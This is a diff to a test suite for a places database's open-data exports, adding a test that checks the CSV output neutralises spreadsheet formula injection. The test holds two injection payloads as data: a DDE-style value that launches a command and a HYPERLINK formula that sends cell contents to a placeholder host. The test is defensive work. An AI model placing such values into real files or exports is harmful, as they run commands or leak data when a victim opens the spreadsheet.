@@ -178,6 +178,20 @@ describe.each(BACKENDS)('open-data exports on %s', (backend) => {
     expect(cafe?.lat).toBe('44.8226456');
   });
 
+  it('CSV: a cell that a spreadsheet would run as a formula is kept as text', async () => {
+    const hostile = await ctx.storage.places.insert(
+      place({
+        names: { ru: "-1+cmd|' /C calc'!A0" },
+        descriptions: { ru: '+1+HYPERLINK("http://x/?"&A1)' },
+        lon: 20.475,
+      }),
+    );
+    const { text } = await download('csv');
+    expect(text).toContain('"\t-1+cmd|\' /C calc\'!A0"');
+    expect(text).toContain('"\t+1+HYPERLINK(""http://x/?""&A1)"');
+    await ctx.storage.places.update(hostile.id, { ...hostile, status: 'closed' });
+  });
+
   it('KML: one folder per category, as My Maps shows layers', async () => {
     const { text } = await download('kml');
     const kml = new XMLParser({
